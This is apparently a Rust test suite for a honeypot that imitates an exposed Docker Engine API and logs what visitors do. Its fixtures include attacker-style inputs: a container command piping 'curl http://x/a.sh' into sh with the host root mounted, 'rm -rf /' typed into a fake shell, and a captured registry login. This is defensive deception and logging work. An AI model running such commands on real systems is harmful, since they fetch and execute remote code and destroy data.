use serde_json::{Value, json};

use super::*;
use crate::service::{
    dialogue::Next,
    testing::{Visitor, fields_have_an_effect, survives},
};

fn connect() -> Visitor {
    Visitor::connect(
        "docker_api",
        2375,
        json!({"server_version": "20.10.24", "containers": "web\ncache"}),
    )
}

fn send(visitor: &mut Visitor, line: &str, body: &str) -> (String, String) {
    let kind = if body.is_empty() {
        ""
    } else {
        "Content-Type: application/json\r\n"
    };
    let length = body.len();
    let answer = visitor.send(format!(
        "{line} HTTP/1.1\r\nHost: a\r\n{kind}Content-Length: {length}\r\n\r\n{body}"
    ));
    let answer = String::from_utf8(answer).unwrap();
    let (head, body) = answer.split_once("\r\n\r\n").unwrap();
    (head.to_owned(), body.to_owned())
}

fn json_of(body: &str) -> Value {
    serde_json::from_str(body).unwrap_or_else(|error| panic!("{error}: {body}"))
}

#[test]
fn a_ping_and_an_unknown_page_get_what_the_engine_sends() {
    let mut visitor = connect();
    assert_eq!(
        send(&mut visitor, "GET /_ping", ""),
        (
            "HTTP/1.1 200 OK\r\nApi-Version: 1.41\r\nCache-Control: no-cache, no-store, must-revalidate\r\n\
            Content-Type: text/plain; charset=utf-8\r\nDocker-Experimental: false\r\nOstype: linux\r\nPragma: no-cache\r\n\
            Server: Docker/20.10.24 (linux)\r\nDate: Wed, 04 Mar 2026 05:06:07 GMT\r\nContent-Length: 2"
                .into(),
            "OK".into()
        )
    );
    // What nmap sends.
    let mut visitor = connect();
    assert_eq!(
        String::from_utf8(visitor.send("GET / HTTP/1.0\r\n\r\n")).unwrap(),
        "HTTP/1.0 404 Not Found\r\nContent-Type: application/json\r\nDate: Wed, 04 Mar 2026 05:06:07 GMT\r\n\
        Content-Length: 29\r\n\r\n{\"message\":\"page not found\"}\n"
    );
    assert_eq!(visitor.next, Next::Close);
    assert_eq!(
        String::from_utf8(connect().send("OPTIONS / HTTP/1.0\r\n\r\n")).unwrap(),
        "HTTP/1.0 200 OK\r\nApi-Version: 1.41\r\nDocker-Experimental: false\r\nOstype: linux\r\n\
        Server: Docker/20.10.24 (linux)\r\nDate: Wed, 04 Mar 2026 05:06:07 GMT\r\nContent-Length: 0\r\n\r\n"
    );
}

#[test]
fn wrong_versions_and_wrong_requests_are_refused() {
    let mut visitor = connect();
    for (line, status, message) in [
        (
            "GET /v1.99/version",
            "400 Bad Request",
            "client version 1.99 is too new. Maximum supported API version is 1.41",
        ),
        (
            "GET /v1.5/version",
            "400 Bad Request",
            "client version 1.5 is too old. Minimum supported API version is 1.12, please upgrade your client to a newer version",
        ),
        (
            "GET /v1.41/containers/nope/json",
            "404 Not Found",
            "No such container: nope",
        ),
        ("DELETE /version", "404 Not Found", "page not found"),
    ] {
        let (head, body) = send(&mut visitor, line, "");
        assert!(head.starts_with(&format!("HTTP/1.1 {status}\r\n")), "{head}");
        assert_eq!(json_of(&body)["message"], message);
    }
    let answer = visitor.send("\x16\x03\x01\n");
    assert_eq!(
        answer,
        b"HTTP/1.1 400 Bad Request\r\nContent-Type: text/plain; charset=utf-8\r\nConnection: close\r\n\r\n400 Bad Request"
    );
    assert_eq!(
        visitor.events.last(),
        Some(&Event::probe("not this protocol", b"\x16\x03\x01\n"))
    );
}

#[test]
fn the_engine_shows_its_version_containers_and_images() {
    let mut visitor = connect();
    let version = json_of(&send(&mut visitor, "GET /v1.41/version", "").1);
    assert_eq!(
        (&version["Version"], &version["ApiVersion"]),
        (&json!("20.10.24"), &json!("1.41"))
    );
    let (head, body) = send(&mut visitor, "GET /info", "");
    assert!(head.ends_with("\r\nTransfer-Encoding: chunked"), "{head}");
    let body = body.split_once("\r\n").unwrap().1.trim_end_matches("\r\n0\r\n\r\n");
    let info = json_of(body);
    assert_eq!((&info["Name"], &info["Containers"]), (&json!("web-01"), &json!(2)));
    let containers = json_of(&send(&mut visitor, "GET /containers/json", "").1);
    assert_eq!(containers[1]["Names"], json!(["/cache"]));
    let images = json_of(&send(&mut visitor, "GET /images/json", "").1);
    assert_eq!(images[2]["RepoTags"], json!(["nginx:1.23"]));
    let id = containers[0]["Id"].as_str().unwrap();
    let (_, one) = send(&mut visitor, &format!("GET /containers/{}/json", &id[..12]), "");
    assert_eq!(json_of(&one)["Name"], "/web");
    for path in ["/networks", "/volumes", "/images/nginx:1.23/json"] {
        json_of(&send(&mut visitor, &format!("GET {path}"), "").1);
    }
}

#[test]
fn a_visitor_can_pull_create_and_start_a_container_over_several_connections() {
    let mut visitor = connect();
    let spec = r#"{"Image":"golang","Cmd":["sh","-c","curl http://x/a.sh | sh"],"HostConfig":{"Binds":["/:/mnt"]}}"#;
    let (head, body) = send(&mut visitor, "POST /v1.41/containers/create?name=x", spec);
    assert!(head.starts_with("HTTP/1.1 404 Not Found\r\n"), "{head}");
    assert_eq!(json_of(&body)["message"], "No such image: golang:latest");
    assert_eq!(visitor.events[0], Event::command("sh -c curl http://x/a.sh | sh"));
    let (_, pull) = send(
        &mut visitor,
        "POST /images/create?fromImage=docker.io%2Flibrary%2Fgolang&tag=latest",
        "",
    );
    assert!(
        pull.contains("{\"status\":\"Pulling from library/golang\",\"id\":\"latest\"}\r\n"),
        "{pull}"
    );
    let (head, body) = send(&mut visitor, "POST /containers/create?name=x", spec);
    assert!(head.starts_with("HTTP/1.1 201 Created\r\n"), "{head}");
    let id = json_of(&body)["Id"].as_str().unwrap().to_owned();
    let mut other = connect();
    let (head, _) = send(&mut other, &format!("POST /containers/{id}/start"), "");
    assert!(
        head.starts_with("HTTP/1.1 204 No Content\r\n") && !head.contains("Content-Length"),
        "{head}"
    );
    let (_, body) = send(&mut other, &format!("POST /containers/{id}/wait"), "");
    assert_eq!(json_of(&body)["StatusCode"], 0);
    let (head, _) = send(&mut other, &format!("POST /containers/{}/start", "0".repeat(64)), "");
    assert!(head.starts_with("HTTP/1.1 404 "), "{head}");
}

#[test]
fn a_command_in_a_container_is_reported_and_answered() {
    let mut visitor = connect();
    let (_, body) = send(
        &mut visitor,
        "POST /containers/web/exec",
        r#"{"AttachStdout":true,"Cmd":["id"]}"#,
    );
    let id = json_of(&body)["Id"].as_str().unwrap().to_owned();
    assert_eq!(visitor.events[0], Event::command("id"));
    let (head, output) = send(&mut visitor, &format!("POST /exec/{id}/start"), r#"{"Tty":false}"#);
    assert!(
        head.starts_with("HTTP/1.1 200 OK\r\nContent-Type: application/vnd.docker.raw-stream\r\nApi-"),
        "{head}"
    );
    assert_eq!(output, "\x01\0\0\0\0\0\0\x27uid=0(root) gid=0(root) groups=0(root)\n");
    assert_eq!(visitor.next, Next::Close);
}

#[test]
fn a_shell_in_a_container_echoes_and_answers_and_its_lines_are_reported() {
    let mut visitor = connect();
    let (_, body) = send(
        &mut visitor,
        "POST /containers/web/exec",
        r#"{"Tty":true,"Cmd":["/bin/sh"]}"#,
    );
    let id = json_of(&body)["Id"].as_str().unwrap().to_owned();
    let start = format!("POST /exec/{id}/start HTTP/1.1\r\nHost: a\r\nUpgrade: tcp\r\n\r\nwho");
    let answer = String::from_utf8(visitor.send(start)).unwrap();
    assert!(answer.starts_with("HTTP/1.1 101 UPGRADED\r\n"), "{answer}");
    assert!(answer.ends_with("\r\n\r\n/ # who"), "{answer}");
    assert_eq!(visitor.send("amx\x7fi\r"), b"amx\x08 \x08i\r\nroot\r\n/ # ");
    assert_eq!(visitor.send("rm -rf /"), b"rm -rf /");
    visitor.finish();
    visitor.finish();
    assert_eq!(visitor.send("exit\r"), b"exit\r\n");
    assert_eq!(visitor.next, Next::Close);
    let lines = ["whoami", "rm -rf /", "exit"].map(Event::command);
    assert_eq!(visitor.events[3..], lines);
}

#[test]
fn the_output_of_a_new_container_comes_over_another_connection() {
    let spec = r#"{"Image":"alpine","Cmd":["id"]}"#;
    let (head, body) = send(&mut connect(), "POST /containers/create", spec);
    assert!(head.starts_with("HTTP/1.1 201 Created\r\n"), "{head}");
    let id = json_of(&body)["Id"].as_str().unwrap().to_owned();
    let mut other = connect();
    let (_, output) = send(
        &mut other,
        &format!("POST /containers/{id}/attach?stream=1&stdout=1"),
        "",
    );
    assert_eq!(output, "\x01\0\0\0\0\0\0\x27uid=0(root) gid=0(root) groups=0(root)\n");
    assert_eq!(other.next, Next::Close);
}

#[test]
fn a_login_at_a_registry_is_reported() {
    let mut visitor = connect();
    send(
        &mut visitor,
        "POST /auth",
        r#"{"username":"bob","password":"hunter2","serveraddress":"x"}"#,
    );
    assert_eq!(
        visitor.events[0],
        Event::password("registry", b"bob", b"hunter2", false)
    );
    assert!(!format!("{:?}", visitor.events[1]).contains("hunter2"));
}

#[test]
fn plain_http_on_the_port_of_tls_gets_the_answer_of_go() {
    let mut visitor = Visitor::connect("docker_api", 2376, json!({}));
    let answer =
        visitor.turn(|dialogue, _, turn| dialogue.unsecured(&mut (&b"GET / HTTP/1.0\r\n\r\n"[..]).into(), turn));
    assert_eq!(
        answer,
        b"HTTP/1.0 400 Bad Request\r\n\r\nClient sent an HTTP request to an HTTPS server.\n"
    );
    assert_eq!(visitor.events.len(), 1);
}

#[test]
fn it_survives_any_input() {
    let messages: [&[u8]; 3] = [
        b"GET /v1.41/info HTTP/1.1\r\nHost: a\r\n\r\n",
        b"POST /containers/web/exec HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 14\r\n\r\n{\"Cmd\":[\"id\"]}",
        b"POST /containers/web/attach HTTP/1.1\r\nHost: a\r\n\r\nid\nls /\n",
    ];
    survives(&connect, &messages, 100_000);
}

#[test]
fn every_field_has_an_effect() {
    let list: &[&[u8]] = &[b"GET /containers/json HTTP/1.1\r\nHost: a\r\n\r\nGET /version HTTP/1.1\r\nHost: a\r\n\r\n"];
    fields_have_an_effect(
        "docker_api",
        &json!({}),
        &[
            ("server_version", json!("23.0.1"), 2375, list),
            ("version", json!("23.0.2"), 2375, list),
            ("containers", json!("backup"), 2375, list),
        ],
    );
}
